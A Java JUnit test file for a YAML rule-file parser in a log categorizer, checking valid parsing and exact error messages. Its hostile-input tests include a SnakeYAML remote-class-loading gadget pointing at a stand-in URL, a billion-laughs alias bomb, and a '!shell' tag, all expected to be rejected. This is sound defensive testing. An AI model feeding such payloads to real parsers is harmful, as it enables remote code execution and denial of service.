package io.logmirror.categorizer.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.logmirror.categorizer.RuleCategorizer;
import io.logmirror.categorizer.RuleFileException;
import io.logmirror.categorizer.TextMatcher;
import io.logmirror.core.Category;
import io.logmirror.core.LogPath;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

class RuleFileParserTest {

    private static final String SOURCE = "rules.yaml";

    private static RuleCategorizer parse(String yaml) {
        return RuleFileParser.parse(yaml, SOURCE);
    }

    /**
     * Asserts that {@code yaml} is refused with its first problem at {@code line}:{@code column} and a message containing
     * {@code problem} (other mistakes in the same text are reported too: see RuleTreeReaderTest).
     */
    private static AbstractThrowableAssert<?, ? extends Throwable> refused(String yaml, int line, int column, String problem) {
        return assertThatThrownBy(() -> parse(yaml))
                .isInstanceOf(RuleFileException.class)
                .hasMessageContaining(SOURCE + ":" + line + ":" + column + ": ")
                .hasMessageContaining(problem)
                .satisfies(e -> {
                    RuleFileException rfe = (RuleFileException) e;
                    assertThat(rfe.source()).isEqualTo(SOURCE);
                    assertThat(rfe.line()).hasValue(line);
                    assertThat(rfe.column()).hasValue(column);
                });
    }

    // ---- what parses ----

    @Test
    void readsEveryKeyOfTheFormat() {
        RuleCategorizer categorizer = parse("""
                categories: [server, client, monitoring, vllm, slurm, logs, uncategorized]
                fallback: logs
                caseSensitive: true
                headBytes: 64
                rules:
                  - category: server
                    name: { regex: "(server[-_]|orchestrator|slurm[-_]job)" }
                  - category: client
                    name: { glob: "loadgen-*.out" }
                  - category: monitoring
                    path: { glob: "monitoring/**" }
                  - category: vllm
                    content: { regex: "vLLM API server" }
                """);

        assertThat(categorizer.categories()).isEqualTo(Category.STANDARD);
        assertThat(categorizer.fallback()).isEqualTo(Category.LOGS);
        assertThat(categorizer.caseSensitive()).isTrue();
        assertThat(categorizer.headBytesWanted()).isEqualTo(64);
        assertThat(categorizer.rules()).hasSize(4);
        assertThat(categorizer.rules().get(1).name()).contains(TextMatcher.glob("loadgen-*.out"));
        assertThat(categorizer.categorize(LogPath.of("orchestrator_job-1.err"))).isEqualTo(Category.SERVER);
        assertThat(categorizer.categorize(LogPath.of("loadgen-1.out"))).isEqualTo(Category.CLIENT);
        assertThat(categorizer.categorize(LogPath.of("monitoring/gpu/n1.csv"))).isEqualTo(Category.MONITORING);
        assertThat(categorizer.categorize(LogPath.of("x.log"), "INFO vLLM API server up".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(Category.VLLM);
        assertThat(categorizer.categorize(LogPath.of("x.log"))).isEqualTo(Category.LOGS);
    }

    @Test
    void takesAPatternOrAListOfPatterns() {
        RuleCategorizer categorizer = parse("""
                rules:
                  - category: server
                    name:
                      regex:
                        - 'server[-_]'
                        - orchestrator
                """);

        assertThat(categorizer.rules().get(0).name()).contains(TextMatcher.regex("server[-_]", "orchestrator"));
    }

    @Test
    void acceptsAFewAliasesToShareAPatternList() {
        RuleCategorizer categorizer = parse("""
                rules:
                  - category: server
                    name: { regex: &servers ['server[-_]', orchestrator] }
                  - category: client
                    path: { regex: *servers }
                """);

        assertThat(categorizer.rules().get(1).path()).contains(TextMatcher.regex("server[-_]", "orchestrator"));
    }

    @Test
    void derivesTheDisplayOrderWhenCategoriesIsLeftOut() {
        RuleCategorizer categorizer = parse("""
                rules:
                  - { category: vllm, name: { regex: vllm } }
                  - { category: server, name: { regex: server } }
                """);

        assertThat(categorizer.categories()).containsExactly(Category.VLLM, Category.SERVER, Category.UNCATEGORIZED);
    }

    @Test
    void readsTheDefaultRulesResource() {
        RuleCategorizer defaults = RuleFileParser.parseResource("/io/logmirror/categorizer/default-rules.yaml", "d");

        assertThat(defaults.rules()).isEqualTo(RuleCategorizer.defaults().rules());
    }

    // ---- one test per kind of error ----

    @Test
    void refusesTextThatIsNotYaml() {
        refused("""
                rules:
                  - category: server
                    name: { regex: [a, b }
                """, 3, 26, "not valid YAML");
    }

    @Test
    void refusesADoubleQuotedRegexWithABackslashAndSuggestsSingleQuotes() {
        refused("rules:\n  - { category: slurm, name: { regex: \"\\.out$\" } }\n", 2, 41, "single quotes");
    }

    @Test
    void refusesAnEmptyFile() {
        assertThatThrownBy(() -> parse("# nothing but a comment\n"))
                .isInstanceOf(RuleFileException.class)
                .hasMessage(SOURCE + ":1: the rule file is empty: it needs at least a 'rules:' list");
    }

    @Test
    void refusesATopLevelThatIsNotAMap() {
        refused("- category: server\n", 1, 1, "expected a map of categories, fallback, caseSensitive, headBytes, rules at the top level, found a list");
    }

    @Test
    void refusesAnUnknownTopLevelKey() {
        refused("fallbak: logs\nrules: []\n", 1, 1,
                "unknown key 'fallbak' at the top level; allowed keys: categories, fallback, caseSensitive, headBytes, rules");
    }

    @Test
    void refusesAnUnknownRuleKey() {
        refused("""
                rules:
                  - category: server
                    nmae: { regex: server }
                """, 3, 5, "unknown key 'nmae' in rule 1; allowed keys: category, name, path, content");
    }

    @Test
    void refusesAnUnknownMatcher() {
        refused("""
                rules:
                  - category: server
                    name: { substring: server }
                """, 3, 13, "unknown key 'substring' in 'name' of rule 1; allowed keys: regex, glob");
    }

    @Test
    void refusesAMatcherWithBothRegexAndGlob() {
        refused("""
                rules:
                  - category: server
                    name: { regex: server, glob: '*.srv' }
                """, 3, 11, "'name' of rule 1 needs exactly one of 'regex' or 'glob', not both");
    }

    @Test
    void refusesAMatcherWithoutAPattern() {
        refused("""
                rules:
                  - category: server
                    name: {}
                """, 3, 11, "'name' of rule 1 needs exactly one of 'regex' or 'glob'");
    }

    @Test
    void refusesAMatcherThatIsAPlainString() {
        refused("""
                rules:
                  - category: server
                    name: server
                """, 3, 11, "'name' of rule 1 must be a matcher such as { regex: 'server[-_]' }");
    }

    @Test
    void refusesABadRegexAtThePatternsLine() {
        refused("""
                rules:
                  - category: server
                    name:
                      regex:
                        - fine
                        - 'server[-_'
                """, 6, 11, "invalid regex 'server[-_': Unclosed character class");
    }

    @Test
    void refusesABadGlob() {
        refused("""
                rules:
                  - category: server
                    name: { glob: 'server-{a,b' }
                """, 3, 19, "invalid glob 'server-{a,b': '{' at index 7 is never closed");
    }

    @Test
    void refusesAnEmptyPattern() {
        refused("""
                rules:
                  - category: server
                    name: { regex: '' }
                """, 3, 20, "regex of 'name' of rule 1 is empty");
    }

    @Test
    void refusesAGlobOverContent() {
        refused("""
                rules:
                  - category: vllm
                    content: { glob: '*vLLM*' }
                """, 3, 14, "content takes 'regex' only");
    }

    @Test
    void refusesABadCategoryName() {
        refused("""
                rules:
                  - category: Server Logs
                    name: { regex: server }
                """, 2, 15, "category of rule 1: invalid category name 'Server Logs': use 1 to 64 lower-case letters");
    }

    @Test
    void refusesARuleWithoutCategory() {
        refused("""
                rules:
                  - category: server
                    name: { regex: server }
                  - name: { regex: client }
                """, 4, 5, "rule 2 has no 'category': add 'category: <name>'");
    }

    @Test
    void refusesAnEmptyCategory() {
        refused("""
                rules:
                  - category:
                    name: { regex: server }
                """, 2, 14, "category is empty");
    }

    @Test
    void refusesARuleWithoutMatcher() {
        refused("""
                rules:
                  - category: server
                """, 2, 5, "rule 1 (category 'server') has no matcher: add 'name', 'path' or 'content'");
    }

    @Test
    void refusesEmptyRules() {
        refused("rules: []\n", 1, 8, "'rules' is empty: add at least one rule");
    }

    @Test
    void refusesMissingRules() {
        refused("fallback: logs\n", 1, 1, "there is no 'rules' list");
    }

    @Test
    void refusesRulesThatAreNotAList() {
        refused("rules:\n  category: server\n", 2, 3, "'rules' must be a list of rules");
    }

    @Test
    void refusesARuleThatIsNotAMap() {
        refused("rules:\n  - server\n", 2, 5, "expected a map of category, name, path, content in rule 1, found 'server'");
    }

    @Test
    void refusesADuplicateKey() {
        refused("""
                rules:
                  - category: server
                    name: { regex: server }
                    category: client
                """, 4, 5, "duplicate key 'category' in rule 1 (first on line 2): keep one");
    }

    @Test
    void refusesARuleCategoryMissingFromCategories() {
        refused("""
                categories: [server, uncategorized]
                rules:
                  - { category: server, name: { regex: server } }
                  - { category: vllm, name: { regex: vllm } }
                """, 4, 17, "category 'vllm' of rule 2 is not listed in 'categories' (line 1): add it there");
    }

    @Test
    void refusesCategoriesListedTwice() {
        refused("""
                categories: [server, server, uncategorized]
                rules:
                  - { category: server, name: { regex: server } }
                """, 1, 22, "categories lists 'server' twice");
    }

    @Test
    void refusesCategoriesWithoutTheFallback() {
        refused("""
                categories: [server]
                rules:
                  - { category: server, name: { regex: server } }
                """, 1, 13, "'categories' does not list the fallback category 'uncategorized'");
        refused("""
                categories: [server, uncategorized]
                fallback: other
                rules:
                  - { category: server, name: { regex: server } }
                """, 2, 11, "fallback category 'other' is not listed in 'categories' (line 1)");
    }

    @Test
    void refusesCategoriesThatAreNotAList() {
        refused("categories: server\nrules: []\n", 1, 13, "categories must be a list such as [a, b], found 'server'");
    }

    @Test
    void refusesABadFallbackName() {
        refused("fallback: Other\nrules: []\n", 1, 11, "fallback: invalid category name 'Other'");
    }

    @Test
    void refusesACaseSensitivityThatIsNotTrueOrFalse() {
        refused("caseSensitive: sometimes\nrules: []\n", 1, 16, "caseSensitive must be true or false, not 'sometimes'");
    }

    @Test
    void refusesHeadBytesThatAreNotANumber() {
        refused("headBytes: 4k\nrules: []\n", 1, 12, "headBytes must be a whole number of bytes, not '4k'");
    }

    @Test
    void refusesHeadBytesOutOfRange() {
        refused("headBytes: 0\nrules: []\n", 1, 12, "headBytes 0 is out of range: use 1 to 1048576");
    }

    @Test
    void refusesAJavaTypeTag() {
        assertThatThrownBy(() -> parse("""
                rules:
                  - category: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                    name: { regex: server }
                """))
                .isInstanceOf(RuleFileException.class)
                .hasMessageStartingWith(SOURCE + ":2:")
                .hasMessageContaining("not allowed")
                .hasMessageContaining("remove the tag");
    }

    @Test
    void refusesALocalTag() {
        refused("""
                rules:
                  - category: !shell server
                    name: { regex: server }
                """, 2, 15, "the tag '!shell' is not allowed");
    }

    // ---- hostile input ----

    @Test
    @Timeout(value = 30, unit = TimeUnit.SECONDS)  // a guard against hanging, not a measurement
    void refusesABillionLaughsAliasBomb() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                bomb.append(i == 0 ? "" : ",").append('*').append(p);
            }
            bomb.append("]\n");
        }
        bomb.append("rules:\n  - { category: server, name: { regex: *i } }\n");

        assertThatThrownBy(() -> parse(bomb.toString()))
                .isInstanceOf(RuleFileException.class)
                .hasMessageContaining("aliases")
                .hasMessageContaining("alias bombs");
    }

    @Test
    @Timeout(value = 30, unit = TimeUnit.SECONDS)
    void refusesAnOversizedFile() {
        String huge = "rules:\n" + "# filler\n".repeat(RuleFileParser.MAX_CODE_POINTS / 9 + 1);

        assertThatThrownBy(() -> parse(huge))
                .isInstanceOf(RuleFileException.class)
                .hasMessageContaining("longer than " + RuleFileParser.MAX_CODE_POINTS + " characters");
    }

    @Test
    void refusesDeepNesting() {
        String deep = "rules: " + "[".repeat(100) + "]".repeat(100) + "\n";

        assertThatThrownBy(() -> parse(deep))
                .isInstanceOf(RuleFileException.class)
                .hasMessageContaining("nests at most");
    }

    @Test
    void refusesARecursiveAlias() {
        assertThatThrownBy(() -> parse("rules: &r [*r]\n"))
                .isInstanceOf(RuleFileException.class)
                .hasMessageStartingWith(SOURCE + ":1:");
    }

    @Test
    void refusesTwoDocuments() {
        assertThatThrownBy(() -> parse("rules: []\n---\nrules: []\n"))
                .isInstanceOf(RuleFileException.class)
                .hasMessageContaining("not valid YAML")
                .hasMessageContaining("single document");
    }

    // ---- files ----

    @Test
    void namesAMissingFileAndTheFullPath(@TempDir Path dir) {
        Path missing = dir.resolve("nope.yaml");

        assertThatThrownBy(() -> RuleFileParser.parse(missing))
                .isInstanceOf(RuleFileException.class)
                .hasMessageStartingWith(missing + ": the rule file does not exist")
                .hasMessageContaining(missing.toAbsolutePath().toString());
    }

    @Test
    void namesTheFileInAnErrorInsideIt(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("categories.yaml");
        Files.writeString(file, "rules:\n  - category: server\n    nmae: { regex: x }\n");

        assertThatThrownBy(() -> RuleFileParser.parse(file))
                .isInstanceOf(RuleFileException.class)
                .hasMessageStartingWith(file + ":3:5: unknown key 'nmae'");
    }

    @Test
    void refusesAFolderGivenAsTheFile(@TempDir Path dir) {
        assertThatThrownBy(() -> RuleFileParser.parse(dir))
                .isInstanceOf(RuleFileException.class)
                .hasMessageStartingWith(dir + ": cannot read the rule file")
                .hasMessageContaining("check that it is a readable UTF-8 text file");
    }

    @Test
    void refusesAFileThatIsNotUtf8(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("latin1.yaml");
        Files.write(file, "rules:\n  - { category: server, name: { regex: '\u00e9t\u00e9' } }\n".getBytes(StandardCharsets.ISO_8859_1));

        assertThatThrownBy(() -> RuleFileParser.parse(file))
                .isInstanceOf(RuleFileException.class)
                .hasMessageStartingWith(file.toString())
                .hasMessageContaining("not valid UTF-8 text")
                .hasMessageContaining("save it as UTF-8");
    }
}
